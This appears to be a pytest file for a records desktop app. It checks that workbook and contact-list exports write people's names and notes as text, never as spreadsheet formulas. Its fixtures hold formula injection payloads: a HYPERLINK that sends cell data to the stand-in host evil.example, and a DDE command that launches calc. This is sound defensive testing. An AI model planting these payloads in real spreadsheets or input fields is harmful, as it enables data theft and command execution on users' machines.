"""No workbook the program writes holds a formula made from the records' text."""

from __future__ import annotations

import datetime as dt
import zipfile
from pathlib import Path

from openpyxl import load_workbook
from sqlalchemy import select

from lscb_desktop.models import Person
from lscb_desktop.services.exports import export_contacts, iter_export_attendance
from lscb_desktop.services.groups import group_rows
from lscb_desktop.services.periods import parse_period
from lscb_desktop.services.workbook import export_workbook, import_workbook
from tests.services.workbook.book import column, sheets

LINK = '=HYPERLINK("http://evil.example/?"&A1,"Click for the minutes")'
COMMAND = "=cmd|' /C calc'!A0"
NAMES = {
    "mary.emson@lutonccg.nhs.uk": LINK,
    "glen.denham@luton.gov.uk": "+44 1582 546000",
    "sally.rowe@luton.gov.uk": "-Sally Rowe",
}


def rename_people(database) -> None:
    with database.session() as session:
        people = session.scalars(select(Person).where(Person.email.in_(NAMES))).all()
        assert len(people) == len(NAMES)
        for person in people:
            person.name = NAMES[person.email or ""]
            person.notes = COMMAND
        person = session.scalars(select(Person).where(Person.email.is_(None))).first()
        assert person is not None
        person.name = "@SUM(1+1)*cmd"


def formulas(path: Path) -> list[str]:
    """Every cell of every sheet written as a formula, read from the file's XML and by openpyxl."""
    found = []
    with zipfile.ZipFile(path) as book:
        for name in book.namelist():
            if name.startswith("xl/worksheets/") and b"<f>" in book.read(name):
                found.append(name)
    for ws in load_workbook(path).worksheets:  # not data_only: formulas are seen as such
        found += [c.coordinate for row in ws.iter_rows() for c in row if c.data_type == "f"]
    return found


def test_the_whole_database_export_writes_names_as_text_and_reads_them_back(
    sample_db, empty_db, tmp_path
):
    rename_people(sample_db)
    path = tmp_path / "records.xlsx"
    export_workbook(sample_db, path)
    assert formulas(path) == []
    people = sheets(path)["People"]
    assert LINK in column(people, "Name")
    assert COMMAND in column(people, "Notes")
    import_workbook(empty_db, path)
    with empty_db.session() as session:
        names = set(session.scalars(select(Person.name)))
        notes = set(session.scalars(select(Person.notes)))
    assert {LINK, "+44 1582 546000", "-Sally Rowe", "@SUM(1+1)*cmd"} <= names
    assert COMMAND in notes
    again = tmp_path / "again.xlsx"
    export_workbook(empty_db, again)
    assert sheets(again) == sheets(path)


def test_the_attendance_workbook_and_contact_list_write_names_as_text(sample_db, tmp_path):
    rename_people(sample_db)
    annual = tmp_path / "attendance.xlsx"
    list(iter_export_attendance(sample_db, parse_period("2025-26"), annual, made=dt.date.today()))
    maag = next(g.id for g in group_rows(sample_db) if g.short_name == "MAAG")
    contacts = export_contacts(sample_db, maag, tmp_path / "contacts.xlsx")
    for path in (annual, contacts):
        assert formulas(path) == [], path.name
        values = {c.value for ws in load_workbook(path) for row in ws.iter_rows() for c in row}
        assert LINK in values, path.name
